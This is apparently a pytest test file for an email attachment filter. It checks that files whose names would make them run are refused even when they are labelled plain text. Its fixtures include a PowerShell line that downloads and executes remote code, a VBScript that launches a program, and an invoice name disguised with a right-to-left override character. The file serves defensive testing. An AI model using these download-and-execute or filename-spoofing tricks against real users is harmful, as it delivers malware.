"""Files whose bytes pass as harmless but whose name makes them run."""

from __future__ import annotations

import base64

import pytest

from casemail.mime.attachments import Budget, judge

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
    "hgGAWjR9awAAAABJRU5ErkJggg==")


def _judge(data: bytes, name: str, declared: str = ""):
    return judge(data, filename=name, declared=declared,
                 budget=Budget(20 * 2**20, 25 * 2**20))


@pytest.mark.parametrize(("data", "name"), [
    (b"var key = 1; WScript.Echo(key);\n", "licence.js"),
    (b"Invoke-WebRequest https://example.org/x | Invoke-Expression\n",
     "fix.ps1"),
    (b"CreateObject(\"WScript.Shell\").Run \"calc\"\n", "readme.vbs"),
    (b"just words\n", "invoice\u202egpj.js"),
    (PNG, "photo.html"),
])
def test_a_file_named_to_run_is_refused_whatever_it_holds(
        data: bytes, name: str) -> None:
    """Script source passes as plain text, and a picture can be a page
    too: opened from a download folder, the name decides what runs."""
    item = _judge(data, name, "text/plain")
    assert not item.kept
    assert "which a computer would run" in item.reason


@pytest.mark.parametrize("name", ["order-1042.txt", "receipt.png", "log"])
def test_ordinary_names_are_kept(name: str) -> None:
    data = PNG if name.endswith(".png") else b"Order 1042\nkey: ABCD\n"
    assert _judge(data, name).kept
